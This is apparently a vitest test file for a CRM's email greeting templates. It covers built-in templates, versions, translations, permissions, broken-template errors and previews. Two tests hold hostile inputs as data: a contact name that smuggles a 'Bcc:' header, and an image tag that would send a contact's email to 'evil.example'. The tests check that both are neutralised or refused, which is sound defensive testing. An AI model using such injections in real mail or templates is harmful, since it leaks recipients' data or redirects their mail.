import { occasionTypes } from '@sequelstring/contract/dates.ts';
import { EmailTemplate, emailTemplates } from '@sequelstring/contract/email-templates.ts';
import { occasionRules, templateTones } from '@sequelstring/contract/occasion-rules.ts';
import { occasions as routes } from '@sequelstring/contract/occasions.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CurrentUser } from '../../kernel/current-user.ts';
import { everything } from '../../kernel/records/scope.ts';
import { builtInOf, builtInTemplates } from './built-in-templates.ts';
import { type GreetingFacts, renderTexts } from './greeting-text.ts';
import { FakeMailer, people, type RunningOccasions, startOccasions } from './occasions.fixture.ts';
import { resolveTemplate } from './template.service.ts';

const facts: GreetingFacts = {
  contact: {
    firstName: 'Ann',
    lastName: 'O’Neil & <Sons>',
    email: 'ann@example.com',
    companyName: 'Example & Co',
    tags: ['customer'],
    updatedAt: '2027-01-01T00:00:00.000Z',
  },
  date: { type: 'birthday', date: '1987-03-15' },
  day: '2027-03-15',
  owner: { name: 'Olive Owner', email: 'olive@example.com' },
  settings: { organisationName: 'Example Ltd' },
  unsubscribeUrl: 'https://crm.example.com/unsubscribe/token',
};

describe('the built-in templates', () => {
  it('are three or more for each type, in all tones where rules choose one, with ids and keys of their own', () => {
    for (const occasion of occasionTypes) {
      expect(builtInTemplates.filter((template) => template.occasion === occasion).length).toBeGreaterThanOrEqual(3);
    }
    for (const occasion of ['birthday', 'work_anniversary', 'customer_anniversary'] as const) {
      const keys = templateTones.map((tone) => builtInOf(occasion, tone).key);
      expect(keys).toEqual(templateTones.map((tone) => `${occasion.replace('_', '-')}-${tone}`));
    }
    expect(builtInOf('anniversary', 'playful').key).toBe('anniversary-warm');
    expect(new Set(builtInTemplates.flatMap(({ id, key }) => [id, key])).size).toBe(builtInTemplates.length * 2);
    for (const template of builtInTemplates) expect(() => EmailTemplate.parse(template)).not.toThrow();
  });

  it.each(builtInTemplates.map((template) => [template.key, template] as const))(
    '%s reads well with and without what a contact may lack',
    (_, template) => {
      const full = renderTexts(template, { ...facts, date: { ...facts.date, type: template.occasion } });
      const bare = renderTexts(template, {
        ...facts,
        contact: { firstName: '', lastName: '', email: 'x@example.com', tags: [], updatedAt: facts.contact.updatedAt },
        date: { type: template.occasion, date: '--03-15' },
        owner: undefined,
      });
      for (const { subject, html, text } of [full, bare]) {
        expect(subject).not.toMatch(/\{\{|undefined|null|\s,|\(\)/);
        expect(html).toContain('https://crm.example.com/unsubscribe/token');
        expect(text).toContain('Unsubscribe (https://crm.example.com/unsubscribe/token)');
        expect(text).toContain('Example Ltd');
        expect(text).not.toMatch(/\{\{|undefined|null|<|&\w+;| ,| !|\n{3}/);
      }
      expect(full.text).toContain('Olive Owner');
      expect(full.text).toMatch(/Ann/);
      expect(full.html).not.toContain('<Sons>');
    },
  );

  it('know the age where the year is known', () => {
    const warm = builtInTemplates.find(({ key }) => key === 'birthday-warm')!;
    expect(renderTexts(warm, facts).text).toContain('Happy 40th birthday, Ann!');
    expect(renderTexts(warm, { ...facts, date: { type: 'birthday', date: '--03-15' } }).text).toContain(
      'Happy birthday, Ann!',
    );
    expect(renderTexts(warm, { ...facts, day: '1987-03-15' }).text).toContain('Happy birthday, Ann!');
  });
});

describe('the subject', () => {
  it('is one line, however the contact is called', () => {
    const { subject } = renderTexts(
      { subject: 'Hi {{contact.firstName}}', html: 'x' },
      { ...facts, contact: { ...facts.contact, firstName: 'Ann\r\nBcc: victim@example.com\u2028x' } },
    );
    expect(subject).toBe('Hi Ann Bcc: victim@example.com x');
  });
});

describe('templates of the organisation', () => {
  let app: RunningOccasions;
  beforeAll(async () => {
    app = await startOccasions({ mailer: new FakeMailer() });
  });
  afterAll(() => app?.stop());

  const body = {
    name: 'My wishes',
    occasion: 'birthday',
    subject: 'Hi {{contact.firstName}}',
    html: '<p>Hi {{contact.firstName}}</p>',
  } as const;
  const create = (change: object = {}, user: CurrentUser = people.admin) =>
    app.call(emailTemplates.create, { user, body: { ...body, ...change } });

  it('keep every version, of which an older one can be made current again', async () => {
    const template = await create({ name: 'Versioned' });
    expect(template.version).toBe(1);
    const params = { id: template.id };
    await app.call(emailTemplates.update, { params, body: { html: '<p>Second</p>', text: 'Second' } });
    const versions = await app.call(emailTemplates.listVersions, { params });
    expect(versions.map(({ version, html }) => [version, html])).toEqual([
      [2, '<p>Second</p>'],
      [1, body.html],
    ]);
    const back = await app.call(emailTemplates.restoreVersion, { params, body: { version: 1 } });
    expect(back).toMatchObject({ version: 3, html: body.html });
    expect(back.text).toBeUndefined();
    const missing = app.call(emailTemplates.restoreVersion, { params, body: { version: 9 } });
    await expect(missing).rejects.toMatchObject({ code: 'email_template_version_not_found' });
    await app.call(emailTemplates.remove, { params });
  });

  it('have translations, taken for contacts with their language, the nearest first', async () => {
    const translate = (language: string) =>
      create({ name: `Warm ${language}`, subject: `In ${language}`, language, translationOf: 'birthday-warm' });
    const [de, austrian] = [await translate('de'), await translate('de-AT')];
    const subjectFor = async (locale: string | undefined) =>
      (await resolveTemplate('birthday-warm', 'birthday', locale)).subject;
    expect(await subjectFor('de_AT')).toBe('In de-AT');
    expect(await subjectFor('de-CH')).toBe('In de');
    expect(await subjectFor('fr')).toMatch(/birthday/);
    expect(await subjectFor(undefined)).toMatch(/birthday/);
    const refused = { code: 'validation_failed' };
    await expect(translate('de')).rejects.toMatchObject(refused);
    await expect(create({ translationOf: 'birthday-warm' })).rejects.toMatchObject(refused);
    await expect(create({ language: 'fr', translationOf: de.key })).rejects.toMatchObject(refused);
    await app.call(emailTemplates.update, { params: { id: de.id }, body: { language: null, translationOf: null } });
    expect(await subjectFor('de-CH')).toMatch(/birthday/);
    for (const { id } of [de, austrian]) await app.call(emailTemplates.remove, { params: { id } });
  });

  it('are created with a key of their name, listed after the built-in ones, changed and deleted', async () => {
    const first = await create();
    const second = await create({ text: 'Hi' });
    expect([first.key, second.key]).toEqual(['my-wishes', 'my-wishes-2']);
    expect(await app.call(emailTemplates.get, { params: { id: 'my-wishes' } })).toEqual(first);
    const keys = async (query: object) => (await app.call(emailTemplates.list, { query })).data.map(({ key }) => key);
    expect(await keys({ occasion: 'birthday' })).toEqual([
      'birthday-corporate',
      'birthday-warm',
      'birthday-minimal',
      'birthday-playful',
      'my-wishes',
      'my-wishes-2',
    ]);
    expect(await keys({ occasion: 'birthday', limit: 3, page: 2 })).toEqual([
      'birthday-playful',
      'my-wishes',
      'my-wishes-2',
    ]);
    const changed = await app.call(emailTemplates.update, {
      params: { id: second.id },
      body: { name: 'Other', text: '' },
    });
    expect(changed).toMatchObject({ name: 'Other', key: 'my-wishes-2', html: body.html });
    expect(changed.text).toBeUndefined();
    await app.call(emailTemplates.remove, { params: { id: second.id } });
    await expect(app.call(emailTemplates.get, { params: { id: second.id } })).rejects.toMatchObject({
      code: 'email_template_not_found',
    });
  });

  it('are changed and deleted by who made them, by managers and by administrators, and by nobody else', async () => {
    const made = await create({ name: 'Of a rep' }, people.rep);
    expect(made.createdBy).toBe(people.rep.id);
    const params = { id: made.key };
    const change = (user: CurrentUser) => app.call(emailTemplates.update, { user, params, body: { name: user.name } });
    const manager: CurrentUser = { id: 'e'.repeat(24), role: 'manager', name: 'Mia Manager', scope: everything };
    for (const user of [people.rep, manager, people.admin]) expect((await change(user)).name).toBe(user.name);
    const refusal = { code: 'email_template_of_another', status: 403 };
    await expect(change(people.otherRep)).rejects.toMatchObject(refusal);
    await expect(app.call(emailTemplates.remove, { user: people.otherRep, params })).rejects.toMatchObject(refusal);
    await app.call(emailTemplates.remove, { user: people.rep, params });
  });

  describe('of a rep, which contacts of others get', () => {
    const rep = people.rep;
    const contactOf = async (user: CurrentUser, emailTemplate?: string) => {
      const [contactId] = await app.addContacts([{ firstName: 'Bo', lastName: 'Test' }], user.id);
      const date = { type: 'birthday', date: '--05-06', emailTemplate } as const;
      const params = { contactId: contactId! };
      return { ...params, dateId: (await app.call(routes.createDate, { user, params, body: date })).id };
    };
    const refused = { code: 'email_template_in_use', status: 403 };

    it('stay as they are for the rep, whether dates name them by key or by id, and not for a manager', async () => {
      for (const by of ['key', 'id'] as const) {
        const template = await create({ name: `Shared by ${by}` }, rep);
        const params = { id: template.id };
        await contactOf(rep, template[by]);
        await app.call(emailTemplates.update, { user: rep, params, body: { html: '<p>Still mine</p>' } });
        const theirs = await contactOf(people.otherRep, template[by]);
        const change = { user: rep, params, body: { html: '<p>Of all</p>' } };
        await expect(app.call(emailTemplates.update, change)).rejects.toMatchObject(refused);
        const restore = { user: rep, params, body: { version: 1 } };
        await expect(app.call(emailTemplates.restoreVersion, restore)).rejects.toMatchObject(refused);
        await expect(app.call(emailTemplates.remove, { user: rep, params })).rejects.toMatchObject(refused);
        await app.call(emailTemplates.update, { ...change, user: people.admin });
        await app.call(routes.deleteDate, { user: people.otherRep, params: theirs });
        await app.call(emailTemplates.remove, { user: rep, params });
      }
    });

    it('stay as they are where a rule names them', async () => {
      const template = await create({ name: 'In a rule' }, rep);
      const rule = { name: 'All', action: 'email' as const, occasions: ['birthday' as const], template: template.key };
      const { id } = await app.call(occasionRules.create, { body: rule });
      const params = { id: template.key };
      await expect(app.call(emailTemplates.remove, { user: rep, params })).rejects.toMatchObject(refused);
      await app.call(occasionRules.remove, { params: { id } });
      await app.call(emailTemplates.remove, { user: rep, params });
    });

    it('take the key of none that their dates still name, nor its id', async () => {
      const gone = await create({ key: 'gone-for-good' });
      await contactOf(people.otherRep, gone.key);
      await contactOf(people.otherRep, gone.id);
      await app.call(emailTemplates.remove, { params: { id: gone.id } });
      for (const key of [gone.key, gone.id])
        await expect(create({ key }, rep)).rejects.toMatchObject({ code: 'email_template_key_taken' });
      expect((await create({ name: 'Gone for good' }, rep)).key).toBe('gone-for-good-2');
    });

    it('are no translations of what they get: not of built-in ones, nor of those of others, nor of a shared one', async () => {
      const translate = (translationOf: string, user: CurrentUser = rep) =>
        create({ name: 'Auf Deutsch', language: 'de', translationOf }, user);
      const shared = await create({ name: 'Shared' }, rep);
      await contactOf(people.otherRep, shared.id);
      const others = await create({ name: 'Of another' }, people.otherRep);
      for (const key of ['birthday-warm', shared.key, others.key]) {
        const details = { translationOf: [expect.stringContaining('ask a manager')] };
        await expect(translate(key)).rejects.toMatchObject({ code: 'validation_failed', details });
      }
      const own = await create({ name: 'For my own' }, rep);
      const translation = await translate(own.key);
      await contactOf(people.otherRep, own.key);
      const params = { id: translation.id };
      const change = app.call(emailTemplates.update, { user: rep, params, body: { subject: 'For all' } });
      await expect(change).rejects.toMatchObject(refused);
      for (const { id } of [translation, own]) await app.call(emailTemplates.remove, { params: { id } });
    });
  });

  it('are refused with field and line when they are broken', async () => {
    const broken = { subject: '{{contact.frstName}}', html: 'fine\n{{{contact.firstName}}}', text: '{{#if years}}' };
    await expect(create(broken)).rejects.toMatchObject({
      code: 'email_template_broken',
      details: {
        subject: ['Line 1: there is no variable "contact.frstName"; did you mean contact.firstName?'],
        html: [expect.stringMatching(/^Line 2: /)],
        text: [expect.stringMatching(/^Line 1: .*not closed/)],
      },
    });
  });

  it('cannot take the key of another, nor change a built-in one', async () => {
    await create({ key: 'taken' });
    await expect(create({ key: 'taken' })).rejects.toMatchObject({ code: 'email_template_key_taken' });
    await expect(create({ key: 'birthday-warm' })).rejects.toMatchObject({ code: 'email_template_key_taken' });
    const params = { id: 'birthday-warm' };
    await expect(app.call(emailTemplates.update, { params, body: { name: 'x' } })).rejects.toMatchObject({
      code: 'email_template_built_in',
    });
    await expect(app.call(emailTemplates.remove, { params })).rejects.toMatchObject({
      code: 'email_template_built_in',
    });
  });

  it('are shown for a contact, or with sample values, before they are stored', async () => {
    const preview = {
      occasion: 'birthday',
      subject: '{{contact.fullName}}: {{years}}',
      html: '<p>{{occasion.date}}</p>',
    } as const;
    expect(await app.call(emailTemplates.preview, { body: preview })).toMatchObject({
      subject: 'Ann Example: 40',
      html: '<p>March 15, 2027</p>',
      text: 'March 15, 2027',
    });
    const [contactId] = await app.addContacts([
      { firstName: 'Bo', lastName: 'Test', importantDates: [{ type: 'birthday', date: '2000-05-06' }] },
    ]);
    expect(await app.call(emailTemplates.preview, { body: { ...preview, contactId: contactId! } })).toMatchObject({
      from: `${people.admin.name} <greetings@crm.example.com>`,
      subject: 'Bo Test: 27',
      html: '<p>May 6, 2027</p>',
    });
    await expect(
      app.call(emailTemplates.preview, { user: people.rep, body: { ...preview, contactId: contactId! } }),
    ).rejects.toMatchObject({ code: 'contact_not_found' });
    const broken = app.call(emailTemplates.preview, { body: { ...preview, html: '{{#each contact.tags}}' } });
    await expect(broken).rejects.toMatchObject({ code: 'email_template_broken' });
    const telling = { ...preview, html: '<p>Hi</p>\n<img src="https://evil.example/{{contact.email}}">' };
    await expect(app.call(emailTemplates.preview, { body: telling })).rejects.toMatchObject({
      details: { html: [expect.stringMatching(/^Line 2: a variable cannot stand in src of <img>/)] },
    });
  });

  it('give way to the built-in one where they are gone', async () => {
    const template = await create({ key: 'passing' });
    const [contactId] = await app.addContacts([{ firstName: 'Bo', email: 'bo@example.com', lastName: '' }]);
    const date = await app.call(routes.createDate, {
      params: { contactId: contactId! },
      body: { type: 'birthday', date: '--05-06', emailTemplate: 'passing' },
    });
    const params = { contactId: contactId!, dateId: date.id };
    const subject = async (query: object = {}) => (await app.call(routes.previewDate, { params, query })).subject;
    expect(await subject()).toBe('Hi Bo');
    expect(await subject({ template: 'birthday-minimal' })).toBe('Happy birthday, Bo');
    await app.call(emailTemplates.remove, { params: { id: template.id } });
    expect(await subject()).toBe('Happy birthday, Bo!');
    const kept = { sendTime: '10:00', emailTemplate: 'passing' };
    expect(await app.call(routes.updateDate, { params, body: kept })).toMatchObject(kept);
  });

  it('must be there when a date names them', async () => {
    const [contactId] = await app.addContacts([{ firstName: 'Bo', email: 'bea@example.com', lastName: '' }]);
    const date = { type: 'birthday', date: '--05-06' } as const;
    const missing = { code: 'email_template_not_found' };
    const params = { contactId: contactId! };
    const create = (emailTemplate?: string) =>
      app.call(routes.createDate, { params, body: { ...date, emailTemplate } });
    await expect(create('nope')).rejects.toMatchObject(missing);
    const dateId = (await create()).id;
    const update = app.call(routes.updateDate, { params: { ...params, dateId }, body: { emailTemplate: 'nope' } });
    await expect(update).rejects.toMatchObject(missing);
    const preview = app.call(routes.previewDate, { params: { ...params, dateId }, query: { template: 'nope' } });
    await expect(preview).rejects.toMatchObject(missing);
  });
});
